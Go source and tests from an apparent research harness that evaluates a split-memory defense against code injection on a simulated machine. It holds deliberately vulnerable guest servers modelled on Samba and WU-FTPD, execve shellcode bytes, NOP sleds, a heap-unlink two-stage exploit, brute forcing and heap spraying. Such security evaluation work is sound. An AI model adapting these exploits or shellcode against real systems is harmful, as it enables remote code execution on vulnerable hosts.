	if !strings.Contains(r.AttackerView, "uid=0(root)") {
		t.Fatalf("shell interaction missing: %s", r.AttackerView)
	}
	// Fig 5(d): the Sebek log captured the attacker's commands.
	joined := strings.Join(r.SebekLog, "\n")
	for _, want := range []string{"id", "uname"} {
		if !strings.Contains(joined, want) {
			t.Fatalf("sebek log missing %q: %v", want, r.SebekLog)
		}
	}
}

func TestFig5Forensics(t *testing.T) {
	r, err := RunFig5(splitmem.Forensics)
	if err != nil {
		t.Fatal(err)
	}
	if r.ShellSpawned {
		t.Fatal("forensics mode must not yield a shell")
	}
	if len(r.Dump) < 20 {
		t.Fatalf("expected a >=20-byte shellcode dump, got %d", len(r.Dump))
	}
	// The dump must be the attacker's stage-one bytes: it starts with the
	// jmp over the unlink-clobbered region and contains NOP filler, just
	// like the paper's screenshot shows recognizable 0x90 bytes.
	if r.Dump[0] != 0xE9 {
		t.Fatalf("dump should start with the stage-one jmp: % x", r.Dump)
	}
	if !bytes.Contains(r.Dump, []byte{0x90, 0x90}) {
		t.Fatalf("dump should contain NOP filler: % x", r.Dump)
	}
	// The forensic exit(0) shellcode terminates the server gracefully.
	if !strings.Contains(r.AttackerView, "gracefully") {
		t.Fatalf("attacker view: %s", r.AttackerView)
	}
}
