// Package attacks implements the paper's effectiveness evaluation (§6.1):
// a Wilander & Kamkar-style buffer-overflow benchmark extended to inject
// code into the data, bss, heap and stack segments (Table 1), five
// real-world-style vulnerable servers with working exploits (Table 2), the
// response-mode demonstration against the wu-ftpd scenario (Fig. 5), and
// the mprotect-based NX-bypass attack that motivates the work (§2).
//
// Every attack is a real code injection: S86 machine code is delivered to
// a vulnerable guest program over its simulated socket, a memory-corruption
// bug redirects control to it, and the outcome depends solely on the
// machine's memory architecture.
package attacks

import (
	"encoding/binary"
	"fmt"
	"strings"

	"splitmem"
	"splitmem/internal/guest"
)

// Result classifies one attack run.
type Result struct {
	ShellSpawned bool // attacker got a shell (attack succeeded)
	Detected     bool // protection engine logged an injection
	Killed       bool // process died on a signal
	Signal       splitmem.Signal
	Exited       bool // process exited voluntarily
	Status       int
	FaultAddr    uint32 // faulting address when killed
	Survived     bool   // program reported normal completion
	Output       string // captured stdout
	Notes        string

	// Full-fidelity run record, for determinism and robustness assertions.
	EventsJSONL         []byte         // the entire kernel event log, rendered
	Stats               splitmem.Stats // final machine/engine counters
	InvariantViolations int            // EvInvariantViolation count (Paranoid runs)
}

// Succeeded reports whether the attacker achieved code execution.
func (r Result) Succeeded() bool { return r.ShellSpawned }

// Foiled reports whether the attack was stopped (no shell).
func (r Result) Foiled() bool { return !r.ShellSpawned }

// String summarizes the result the way the paper's tables do.
func (r Result) String() string {
	switch {
	case r.ShellSpawned:
		return "root shell"
	case r.Detected && r.Killed:
		return fmt.Sprintf("foiled (detected, %v)", r.Signal)
	case r.Killed:
		return fmt.Sprintf("foiled (%v)", r.Signal)
	case r.Survived:
		return "no effect"
	default:
		return "foiled"
	}
}

// Target wraps a machine and a victim process and drives the attacker side
// of the conversation.
type Target struct {
	M *splitmem.Machine
	P *splitmem.Process

	budget uint64
}

// NewTarget boots a machine with cfg and spawns the victim program (CRT is
// appended automatically).
func NewTarget(cfg splitmem.Config, src, name string) (*Target, error) {
	if cfg.PhysBytes == 0 {
		// Victim processes are small; a 16 MiB machine keeps the big attack
		// grids cheap even with every page twinned.
		cfg.PhysBytes = 16 << 20
	}
	m, err := splitmem.New(cfg)
	if err != nil {
		return nil, err
	}
	p, err := m.LoadAsm(guest.WithCRT(src), name)
	if err != nil {
		return nil, fmt.Errorf("assemble %s: %w", name, err)
	}
	return &Target{M: m, P: p, budget: 200_000_000}, nil
}

// Send injects bytes on the victim's stdin.
func (t *Target) Send(b []byte) { t.P.StdinWrite(b) }

// SendLine sends a protocol line.
func (t *Target) SendLine(s string) { t.P.StdinWrite([]byte(s + "\n")) }

// Close signals EOF on the victim's stdin.
func (t *Target) Close() { t.P.StdinClose() }

// Run drives the machine until it stops (all done / waiting for input).
func (t *Target) Run() splitmem.RunResult { return t.M.Run(t.budget) }

// WaitOutput runs until the victim's accumulated stdout contains substr or
// the victim stops producing output. It returns the full drained output.
func (t *Target) WaitOutput(substr string) (string, bool) {
	var out strings.Builder
	for i := 0; i < 64; i++ {
		t.M.Run(t.budget)
		out.Write(t.P.StdoutDrain())
		if strings.Contains(out.String(), substr) {
			return out.String(), true
		}
		if !t.P.Alive() {
			return out.String(), strings.Contains(out.String(), substr)
		}
		if len(t.P.StdoutPeek()) == 0 {
			// Blocked waiting for us with nothing new: give up.
			break
		}
	}
	return out.String(), strings.Contains(out.String(), substr)
}

// Result inspects the final state.
func (t *Target) Result() Result {
	r := Result{ShellSpawned: t.P.ShellSpawned()}
	r.Detected = len(t.M.EventsOf(splitmem.EvInjectionDetected)) > 0
	r.Killed, r.Signal = t.P.Killed()
	r.Exited, r.Status = t.P.Exited()
	r.FaultAddr = t.P.FaultAddr()
	r.Output = string(t.P.StdoutDrain())
	r.Survived = strings.Contains(r.Output, "SURVIVED")
	r.EventsJSONL, _ = t.M.EventsJSONL()
	r.Stats = t.M.Stats()
	r.InvariantViolations = len(t.M.EventsOf(splitmem.EvInvariantViolation))
	return r
}

// Shellcode builders -------------------------------------------------------

// ExecveShellcode builds an execve("/bin/sh") payload positioned at addr
// (the path string is embedded and addressed absolutely, as real shellcode
// does).
func ExecveShellcode(addr uint32) []byte {
	code := []byte{
		0xBB, 0, 0, 0, 0, // mov ebx, path
		0xB8, 11, 0, 0, 0, // mov eax, SYS_EXECVE
		0xCD, 0x80, // int 0x80
	}
	binary.LittleEndian.PutUint32(code[1:], addr+uint32(len(code)))
	return append(code, []byte("/bin/sh\x00")...)
}

// NopSled prepends n NOP bytes (0x90, identical on x86 and S86) to sc.
func NopSled(n int, sc []byte) []byte {
	out := make([]byte, n, n+len(sc))
	for i := range out {
		out[i] = 0x90
	}
	return append(out, sc...)
}

// TwoStageShellcode builds the wu-ftpd-style two-stage payload at addr
// (§6.1.3 / Fig. 5): stage one starts with a jmp over the 8-byte region
// that the heap unlink clobbers, writes the 4-byte success cookie back to
// the attacker, reads the second stage (up to 128 bytes) into a scratch
// area after itself, and jumps to it.
func TwoStageShellcode(addr uint32, cookie string) []byte {
	if len(cookie) != 4 {
		panic("cookie must be 4 bytes")
	}
	scratch := addr + 96 // stage-two landing area
	src := fmt.Sprintf(`
.text %#x
    jmp stage1            ; skip the 8 bytes unlink will clobber
    .space 12, 0x90
stage1:
    ; write(1, cookie, 4)
    mov ebx, 1
    mov ecx, cookiestr
    mov edx, 4
    mov eax, 4
    int 0x80
    ; read(0, scratch, 128)
    mov ebx, 0
    mov ecx, %#x
    mov edx, 128
    mov eax, 3
    int 0x80
    mov ecx, %#x
    jmp ecx
cookiestr: .ascii "%s"
`, addr, scratch, scratch, cookie)
	prog, err := splitmem.Assemble(src)
	if err != nil {
		panic(fmt.Sprintf("two-stage shellcode: %v", err))
	}
	for i := range prog.Sections {
		if prog.Sections[i].Name == ".text" {
			return prog.Sections[i].Data
		}
	}
	panic("two-stage shellcode: no text section")
}

// le32 renders v little-endian.
func le32(v uint32) []byte {
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], v)
	return b[:]
}

// pad returns b extended with filler to length n.
func pad(b []byte, n int, fill byte) []byte {
	for len(b) < n {
		b = append(b, fill)
	}
	return b
}

// parseLeak extracts the 8-hex-digit address following marker in out.
func parseLeak(out, marker string) (uint32, error) {
	i := strings.Index(out, marker)
	if i < 0 {
		return 0, fmt.Errorf("no %q leak in output %q", marker, out)
	}
	hex := out[i+len(marker):]
	if len(hex) < 8 {
		return 0, fmt.Errorf("truncated leak in %q", out)
	}
	var v uint32
	for _, c := range hex[:8] {
		switch {
		case c >= '0' && c <= '9':
			v = v<<4 | uint32(c-'0')
		case c >= 'a' && c <= 'f':
			v = v<<4 | uint32(c-'a'+10)
		default:
			return 0, fmt.Errorf("bad leak digit %q in %q", c, out)
		}
	}
	return v, nil
}
