package attacks

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// Wilander & Kamkar's benchmark distinguishes *direct* overflows (the
// overflow itself smashes the target) from *indirect* ones: the overflow
// corrupts a pointer, and a later legitimate-looking assignment through
// that pointer performs an attacker-controlled 4-byte write anywhere in the
// address space. These forms defeat many canary-style defenses; for the
// split-memory architecture they are just another way to reach step 3 of
// §3.2, and the injected code remains unfetchable all the same.

// Indirect techniques (appended to the direct ones in Table 1).
const (
	TechIndirectRet     Technique = 100 + iota // pointer write to the return address
	TechIndirectFuncPtr                        // pointer write to a distant function pointer
)

// AllTechniques returns direct plus indirect techniques (extended Table 1).
func AllTechniques() []Technique {
	return append(Techniques(), TechIndirectRet, TechIndirectFuncPtr)
}

func (t Technique) indirect() bool {
	return t == TechIndirectRet || t == TechIndirectFuncPtr
}

// TechniqueName names direct and indirect techniques for table rendering.
func TechniqueName(t Technique) string { return techniqueName(t) }

func techniqueName(t Technique) string {
	switch t {
	case TechIndirectRet:
		return "Return address (indirect ptr)"
	case TechIndirectFuncPtr:
		return "Function pointer (indirect ptr)"
	}
	return t.String()
}

// indirectVictimSource builds the vulnerable program for an indirect cell:
// the overflow corrupts a pointer variable; the program then stores an
// attacker-supplied word through it.
func indirectVictimSource(tech Technique, seg Segment) string {
	alloc := segAlloc(seg)
	trigger := ""
	statics := segStatics(TechRet, seg) // codebuf statics only
	if tech == TechIndirectFuncPtr {
		trigger = `
    mov ecx, g_fptr
    load eax, [ecx]
    call eax`
		statics += "g_fptr: .word benign\n"
	}
	return fmt.Sprintf(`
_start:%s
    ; leak the injection buffer address
    push esi
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, leakpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; receive the attack code
    mov eax, 256
    push eax
    push esi
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    call vuln
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit

vuln:
    push ebp
    mov ebp, esp
    sub esp, 72            ; buf (64) below the pointer variable at ebp-8
    ; leak the frame ("FRM xxxxxxxx"), standing in for the usual stack leak
    push ebp
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, frmpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; ptr = &scratch (a legitimate output location)
    mov eax, scratch
    store [ebp-8], eax
    ; BUG: 68 bytes into a 64-byte buffer - corrupts ptr
    mov eax, 68
    push eax
    lea eax, [ebp-72]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    ; read the "result" and store it through ptr: *ptr = value
    mov eax, 4
    push eax
    mov eax, valbuf
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    load ecx, [ebp-8]
    mov eax, valbuf
    load eax, [eax]
    store [ecx], eax       ; the attacker-controlled arbitrary write
%s
    mov esp, ebp
    pop ebp
    ret
benign:
    ret

.data
leakpfx:  .asciz "BUF "
frmpfx:   .asciz "FRM "
newline:  .asciz "\n"
survived: .asciz "SURVIVED\n"
leakbuf:  .space 12
scratch:  .word 0
valbuf:   .word 0
%s
`, alloc, trigger, statics)
}

// segAlloc reproduces the per-segment codebuf allocation snippet.
func segAlloc(seg Segment) string {
	switch seg {
	case SegStack:
		return `
    sub esp, 256
    mov esi, esp            ; codebuf on the stack`
	case SegHeap:
		return `
    mov eax, 256
    push eax
    call malloc
    add esp, 4
    mov esi, eax            ; codebuf on the heap`
	case SegBSS:
		return `
    mov esi, bssbuf         ; codebuf in bss`
	default:
		return `
    mov esi, databuf        ; codebuf in data`
	}
}

// runIndirectCell drives one indirect benchmark cell.
func runIndirectCell(cfg splitmem.Config, tech Technique, seg Segment) (Result, error) {
	src := indirectVictimSource(tech, seg)
	t, err := NewTarget(cfg, src, fmt.Sprintf("wilander-ind-%d-%d", tech, seg))
	if err != nil {
		return Result{}, err
	}
	prog, err := splitmem.Assemble(guest.WithCRT(src))
	if err != nil {
		return Result{}, err
	}
	out, ok := t.WaitOutput("BUF ")
	if !ok {
		return Result{Notes: "no leak: " + out}, nil
	}
	codebuf, err := parseLeak(out, "BUF ")
	if err != nil {
		return Result{}, err
	}
	t.Send(shellcodeFor(TechRet, codebuf))
	out, ok = t.WaitOutput("FRM ")
	if !ok {
		return Result{Notes: "no frame leak: " + out}, nil
	}
	frame, err := parseLeak(out, "FRM ")
	if err != nil {
		return Result{}, err
	}
	var target uint32
	switch tech {
	case TechIndirectRet:
		target = frame + 4 // the saved return address slot
	case TechIndirectFuncPtr:
		target, _ = prog.Symbol("g_fptr")
	}
	payload := pad(nil, 64, 0x41)
	payload = append(payload, le32(target)...)  // the corrupted pointer
	payload = append(payload, le32(codebuf)...) // the "value" = &shellcode
	t.Send(payload)
	t.Close()
	t.Run()
	return t.Result(), nil
}

// RunExtendedWilander executes the 8x4 grid (direct + indirect forms).
func RunExtendedWilander(cfg splitmem.Config) ([]CellResult, error) {
	var cells []CellResult
	for _, tech := range AllTechniques() {
		for _, seg := range Segments() {
			var base, prot Result
			var err error
			if tech.indirect() {
				base, err = runIndirectCell(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
				if err == nil {
					prot, err = runIndirectCell(cfg, tech, seg)
				}
			} else {
				base, err = runCellOnce(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
				if err == nil {
					prot, err = runCellOnce(cfg, tech, seg)
				}
			}
			if err != nil {
				return nil, fmt.Errorf("%s/%v: %w", techniqueName(tech), seg, err)
			}
			cells = append(cells, CellResult{
				Tech:     tech,
				Seg:      seg,
				NA:       !base.Succeeded(),
				Result:   prot,
				Baseline: base,
			})
		}
	}
	return cells, nil
}
