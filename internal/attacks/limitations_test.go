package attacks

import (
	"testing"

	"splitmem"
)

// TestRet2ExistingNotStopped documents §7: attacks that reuse code already
// in the process succeed under split memory too (as the paper says, ASLR is
// the orthogonal complement).
func TestRet2ExistingNotStopped(t *testing.T) {
	for _, prot := range []splitmem.Protection{
		splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit,
	} {
		r, err := RunRet2Existing(splitmem.Config{Protection: prot})
		if err != nil {
			t.Fatal(err)
		}
		if !r.Succeeded() {
			t.Fatalf("%v: return-into-existing-code should succeed everywhere (it injects nothing): %+v", prot, r)
		}
	}
}

// TestNonControlDataNotStopped documents §7: data-only attacks are out of
// scope for a code/data separation.
func TestNonControlDataNotStopped(t *testing.T) {
	for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtSplit} {
		leaked, err := RunNonControlData(splitmem.Config{Protection: prot})
		if err != nil {
			t.Fatal(err)
		}
		if !leaked {
			t.Fatalf("%v: the non-control-data attack should leak the secret", prot)
		}
	}
}

// TestSelfModifyingCodeLimitation documents §7: legitimate self-modifying
// code works on von Neumann machines and breaks on the split architecture —
// the generated instructions land on the data twin.
func TestSelfModifyingCodeLimitation(t *testing.T) {
	exited, status, err := RunSelfModifying(splitmem.Config{Protection: splitmem.ProtNone})
	if err != nil {
		t.Fatal(err)
	}
	if !exited || status != 9 {
		t.Fatalf("unprotected JIT should work: exited=%v status=%d", exited, status)
	}
	exited, status, err = RunSelfModifying(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	if exited && status == 9 {
		t.Fatal("split memory cannot execute self-modified code — the paper's own limitation")
	}
}
