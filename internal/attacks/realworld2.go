package attacks

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// ---------------------------------------------------------------------------
// minismb — Samba 2.2.1a (eSDee trans2open, brute force vs. stack
// randomization)

const minismbSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
smb_loop:
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl smb_quit
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'T'
    jz smb_trans
    cmp eax, 'D'
    jz smb_dbg
    cmp eax, 'Q'
    jz smb_quit
    jmp smb_loop

smb_trans:
    ; "TRANS <n>" - BUG: n copied into a 256-byte stack buffer unchecked
    mov eax, linebuf
    add eax, 6
    push eax
    call atoi
    add esp, 4
    push eax
    call smb_handler
    add esp, 4
    jmp smb_loop

smb_dbg:
    ; debug build only: leak the handler's buffer address ("insider
    ; information about the stack location", §6.1.2)
    mov eax, 0
    push eax
    call smb_leak
    add esp, 4
    jmp smb_loop

smb_handler:
    push ebp
    mov ebp, esp
    sub esp, 256
    load eax, [ebp+8]      ; n
    push eax
    lea eax, [ebp-256]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov eax, msg_ok
    push eax
    call print
    add esp, 4
    mov esp, ebp
    pop ebp
    ret

smb_leak:
    push ebp
    mov ebp, esp
    sub esp, 256
    lea eax, [ebp-256]     ; same frame shape as smb_handler
    push eax
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, msg_dbg
    push eax
    call print
    add esp, 4
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, msg_nl
    push eax
    call print
    add esp, 4
    mov esp, ebp
    pop ebp
    ret

smb_quit:
    mov eax, 0
    push eax
    call exit

.data
banner:  .asciz "minismb 2.2.1a ready\n"
msg_ok:  .asciz "OK\n"
msg_dbg: .asciz "DBG "
msg_nl:  .asciz "\n"
linebuf: .space 64
hexbuf:  .space 12
`

// smbAttempt runs one trans2open attempt against a fresh server instance
// (fresh connection = fresh process = fresh stack slide) using the guessed
// buffer address.
func smbAttempt(cfg splitmem.Config, guess uint32) (Result, error) {
	t, err := NewTarget(cfg, minismbSrc, "minismb")
	if err != nil {
		return Result{}, err
	}
	if _, ok := t.WaitOutput("ready"); !ok {
		return Result{Notes: "no banner"}, nil
	}
	// A NOP sled + shellcode fills the 256-byte buffer; then saved ebp and
	// the return address (the guess points into the sled).
	sc := ExecveShellcode(guess + 200) // landing leaves >=200 bytes of sled
	payload := NopSled(256-len(sc), sc)
	payload = append(payload, le32(guess)...) // saved ebp (unused)
	payload = append(payload, le32(guess)...) // return address
	t.SendLine(fmt.Sprintf("TRANS %d", len(payload)))
	t.Send(payload)
	t.WaitOutput("OK")
	t.SendLine("QUIT")
	t.Run()
	return t.Result(), nil
}

// smbFirstGuess obtains the "good first guess" from a debug instance
// (manual analysis of a similar vulnerable system, as the paper describes).
func smbFirstGuess(cfg splitmem.Config) (uint32, error) {
	probe := cfg
	probe.Protection = splitmem.ProtNone
	t, err := NewTarget(probe, minismbSrc, "minismb-probe")
	if err != nil {
		return 0, err
	}
	if _, ok := t.WaitOutput("ready"); !ok {
		return 0, fmt.Errorf("probe: no banner")
	}
	t.SendLine("DBG")
	out, ok := t.WaitOutput("DBG ")
	if !ok {
		return 0, fmt.Errorf("probe: no leak")
	}
	return parseLeak(out, "DBG ")
}

// exploitMinismbHelped runs the "helped" variant used for Table 2: the
// exploit gets an exact first guess for this connection's stack layout
// (probe and attack share the same randomization seed).
func exploitMinismbHelped(cfg splitmem.Config) (Result, error) {
	cfg.RandomizeStack = true
	guess, err := smbFirstGuess(cfg)
	if err != nil {
		return Result{}, err
	}
	// Aim at the middle of the sled for slack.
	return smbAttempt(cfg, guess+100)
}

// BruteForceMinismb runs the unhelped brute force: each attempt hits a
// fresh server instance with a different stack slide; the exploit sweeps
// guesses around the first guess until a shell appears (unprotected) or
// maxAttempts is reached. It returns the attempt count.
func BruteForceMinismb(cfg splitmem.Config, maxAttempts int) (Result, int, error) {
	cfg.RandomizeStack = true
	base := cfg
	base.Seed = 0
	guess, err := smbFirstGuess(base)
	if err != nil {
		return Result{}, 0, err
	}
	for i := 1; i <= maxAttempts; i++ {
		att := cfg
		att.Seed = int64(i) // fresh connection, fresh slide
		// Sweep around the first guess in sled-sized steps.
		delta := int32((i % 26) * 160)
		if i%2 == 0 {
			delta = -delta
		}
		r, err := smbAttempt(att, uint32(int32(guess+100)+delta))
		if err != nil {
			return Result{}, i, err
		}
		if r.Succeeded() {
			return r, i, nil
		}
		if i == maxAttempts {
			return r, i, nil
		}
	}
	return Result{}, maxAttempts, nil
}

// ---------------------------------------------------------------------------
// miniwuftp — WU-FTPD 2.6.1 (7350wurm: heap free()/unlink corruption with
// two-stage shellcode)

const miniwuftpSrc = `
_start:
    mov eax, banner
    push eax
    call print
    add esp, 4
wu_loop:
    ; the command dispatcher calls g_handler after every response - the
    ; pointer the heap-unlink attack overwrites
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl wu_quit
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'U'
    jz wu_user
    cmp eax, 'P'
    jz wu_pass
    cmp eax, 'G'
    jz wu_glob
    cmp eax, 'Q'
    jz wu_quit
    jmp wu_post

wu_user:
    mov eax, msg_331
    push eax
    call print
    add esp, 4
    jmp wu_post

wu_pass:
    mov eax, msg_230
    push eax
    call print
    add esp, 4
    jmp wu_post

wu_glob:
    ; "GLOB <n>": expand a glob pattern. The pattern buffer is 128 bytes
    ; but n is unchecked (the ~{ parsing bug), and the pattern is freed
    ; after expansion - free() trusts the neighboring chunk header.
    mov eax, 128
    push eax
    call malloc
    add esp, 4
    mov ecx, g_pat
    store [ecx], eax
    mov eax, 256
    push eax
    call malloc            ; expansion result chunk, adjacent
    add esp, 4
    mov ecx, g_res
    store [ecx], eax
    ; leak the pattern buffer address ("150 <hex>")
    mov ecx, g_pat
    load eax, [ecx]
    push eax
    mov eax, hexbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, msg_150
    push eax
    call print
    add esp, 4
    mov eax, hexbuf
    push eax
    call print
    add esp, 4
    mov eax, msg_nl
    push eax
    call print
    add esp, 4
    ; read the pattern - BUG: n unchecked against 128
    mov eax, linebuf
    add eax, 5
    push eax
    call atoi
    add esp, 4
    push eax
    mov ecx, g_pat
    load eax, [ecx]
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    ; "expand" (no-op), then free the corrupted pattern chunk
    mov ecx, g_pat
    load eax, [ecx]
    push eax
    call free              ; forward-coalesce unlinks the forged header
    add esp, 4
    mov eax, msg_250
    push eax
    call print
    add esp, 4
    jmp wu_post

wu_post:
    mov ecx, g_handler
    load eax, [ecx]
    call eax               ; post-command hook (normally wu_noop)
    jmp wu_loop

wu_noop:
    ret

wu_quit:
    mov eax, 0
    push eax
    call exit

.data
banner:    .asciz "220 miniwuftp 2.6.1 ready\n"
msg_331:   .asciz "331\n"
msg_230:   .asciz "230\n"
msg_150:   .asciz "150 "
msg_250:   .asciz "250\n"
msg_nl:    .asciz "\n"
linebuf:   .space 64
hexbuf:    .space 12
g_pat:     .word 0
g_res:     .word 0
g_handler: .word wu_noop
`

// ExploitMiniwuftp runs the 7350wurm-style attack. shell, when non-nil,
// receives lines to type into the spawned shell after stage two runs (used
// by the Fig. 5 demonstrations). It returns the final result and the bytes
// the attacker received (the 4-byte cookie signals stage-one execution).
func ExploitMiniwuftp(cfg splitmem.Config, shell []string) (Result, []byte, error) {
	t, err := NewTarget(cfg, miniwuftpSrc, "miniwuftp")
	if err != nil {
		return Result{}, nil, err
	}
	if _, ok := t.WaitOutput("220"); !ok {
		return Result{Notes: "no banner"}, nil, nil
	}
	t.SendLine("USER ftp")
	t.WaitOutput("331")
	t.SendLine("PASS ftp")
	t.WaitOutput("230")

	t.SendLine("GLOB 144")
	out, ok := t.WaitOutput("150 ")
	if !ok {
		return Result{Notes: "no heap leak"}, nil, nil
	}
	pat, err := parseLeak(out, "150 ")
	if err != nil {
		return Result{}, nil, err
	}
	handlerAddr, err := wuHandlerAddr()
	if err != nil {
		return Result{}, nil, err
	}

	// Stage one lives at pat+16 (free() clobbers pat..pat+7 when inserting
	// the merged chunk on the free list; unlink clobbers FD+8..FD+11,
	// which stage one jumps over).
	stage1At := pat + 16
	stage1 := TwoStageShellcode(stage1At, "OK!!")
	payload := make([]byte, 16)
	payload = append(payload, stage1...)
	payload = pad(payload, 132, 0x90)
	// Forged "next chunk" header at pat+132 (chunk(128) = 136 from base
	// pat-4): size 16 with the in-use bit clear, fd = stage1, bk =
	// g_handler-4, so unlink writes *(g_handler) = stage1.
	payload = append(payload, le32(16)...)
	payload = append(payload, le32(stage1At)...)
	payload = append(payload, le32(handlerAddr-4)...)
	t.Send(payload)

	// free() fires during GLOB handling; the post-command hook then calls
	// through the overwritten g_handler.
	out, gotCookie := t.WaitOutput("OK!!")
	if !gotCookie {
		t.Run()
		r := t.Result()
		r.Output = out + r.Output
		return r, nil, nil
	}
	// Stage one is executing: deliver stage two (execve /bin/sh).
	t.Send(pad(ExecveShellcode(stage1At+96), 128, 0x90))
	t.Run()
	for _, line := range shell {
		t.SendLine(line)
		t.Run()
	}
	r := t.Result()
	r.Output = out + r.Output
	return r, []byte("OK!!"), nil
}

// wuHandlerAddr resolves the g_handler symbol by assembling the server
// image the same way NewTarget does.
func wuHandlerAddr() (uint32, error) {
	prog, err := splitmem.Assemble(guest.WithCRT(miniwuftpSrc))
	if err != nil {
		return 0, err
	}
	v, ok := prog.Symbol("g_handler")
	if !ok {
		return 0, fmt.Errorf("miniwuftp: no g_handler symbol")
	}
	return v, nil
}
