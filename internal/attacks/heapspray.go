package attacks

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// Heap spraying: the browser-era refinement of code injection. The attacker
// cannot leak an address, so instead they fill megabytes of heap with
// [NOP sled + shellcode] copies and aim a corrupted code pointer anywhere
// in the middle of the spray. No leak needed — exactly the class of attack
// the paper's architectural argument covers: however the bytes arrive and
// however the pointer is guessed, they only ever exist on data twins.

// heapSpraySrc is a victim with a script-engine shape: it accepts "ALLOC
// <n>" commands that copy attacker bytes onto fresh heap allocations (the
// spray primitive), then "CALL <hexaddr>" invokes a "callback" at an
// attacker-supplied address (standing in for a corrupted vtable entry).
const heapSpraySrc = `
_start:
spray_loop:
    mov eax, 64
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    cmp eax, 0
    jl spray_quit
    mov ecx, linebuf
    loadb eax, [ecx]
    cmp eax, 'A'
    jz spray_alloc
    cmp eax, 'C'
    jz spray_call
    cmp eax, 'Q'
    jz spray_quit
    jmp spray_loop

spray_alloc:
    ; "ALLOC <n>": allocate n bytes and fill them from the input stream
    mov eax, linebuf
    add eax, 6
    push eax
    call atoi
    add esp, 4
    mov esi, eax           ; n
    push esi
    call malloc
    add esp, 4
    push esi
    push eax
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
    mov eax, msg_ok
    push eax
    call print
    add esp, 4
    jmp spray_loop

spray_call:
    ; "CALL <hexaddr>": the corrupted virtual call
    mov eax, linebuf
    add eax, 5
    push eax
    call htoi
    add esp, 4
    call eax
    jmp spray_loop

spray_quit:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

.data
linebuf: .space 64
msg_ok:  .asciz "OK\n"
hexbuf:  .space 12
`

// PICShellcode builds position-independent execve("/bin/sh") shellcode
// using the classic call/pop GetPC trick — no embedded absolute address, so
// it runs wherever a spray block happens to land.
//
//	call .+0        ; pushes the address of the next instruction
//	pop ebx         ; ebx = here
//	add ebx, 14     ; ebx = &path
//	mov eax, 11
//	int 0x80
//	path: "/bin/sh\0"
func PICShellcode() []byte {
	code := []byte{
		0xE8, 0x00, 0x00, 0x00, 0x00, // call .+0
		0x5B,                    // pop ebx
		0x05, 0x03, 14, 0, 0, 0, // add ebx, 14
		0xB8, 11, 0, 0, 0, // mov eax, SYS_EXECVE
		0xCD, 0x80, // int 0x80
	}
	return append(code, []byte("/bin/sh\x00")...)
}

// RunHeapSpray sprays `blocks` copies of [NOP sled + PIC shellcode] onto
// the victim's heap, then aims a blind virtual call into the middle of the
// spray — no information leak anywhere.
func RunHeapSpray(cfg splitmem.Config, blocks int) (Result, error) {
	t, err := NewTarget(cfg, heapSpraySrc, "heapspray")
	if err != nil {
		return Result{}, err
	}
	const blockSize = 2048
	chunk := (blockSize + 11) &^ 7 // allocator chunk stride

	pic := PICShellcode()
	block := NopSled(blockSize-len(pic), pic)

	for i := 0; i < blocks; i++ {
		t.SendLine(fmt.Sprintf("ALLOC %d", blockSize))
		t.Send(block)
		if _, ok := t.WaitOutput("OK"); !ok {
			return Result{Notes: "spray rejected"}, nil
		}
		t.P.StdoutDrain()
	}
	// The attacker studied the binary offline: the heap begins one gap
	// above the image. Precision does not matter — that is the point of
	// the spray — so aim at the middle block with some slop.
	prog, err := splitmem.Assemble(guest.WithCRT(heapSpraySrc))
	if err != nil {
		return Result{}, err
	}
	var imageEnd uint32
	for i := range prog.Sections {
		if end := prog.Sections[i].End(); end > imageEnd {
			imageEnd = end
		}
	}
	heapBase := (imageEnd + 0x10000 + 0xFFF) &^ uint32(0xFFF)
	guess := heapBase + uint32(blocks/2*chunk) + 333

	t.SendLine(fmt.Sprintf("CALL %08x", guess))
	t.Run()
	return t.Result(), nil
}
