package attacks

import (
	"fmt"

	"splitmem"
)

// The five real-world scenarios of §6.1.2 / Table 2. Each mini-server
// reproduces the vulnerability class of its namesake and is attacked by a
// working exploit over the simulated socket:
//
//	minissl   (Apache+OpenSSL 0.9.6d / openssl-too-open): heap overflow of
//	          the client master key + handshake info leak -> heap callback.
//	minidns   (Bind 8.2.2_P5 / lsd-pl TSIG): stack overflow in signature
//	          handling + info leak for the shellcode address.
//	miniftp   (ProFTPD 1.2.7 / proftpd-not-pro-enough): ASCII-mode newline
//	          translation miscounts the output length -> heap overflow.
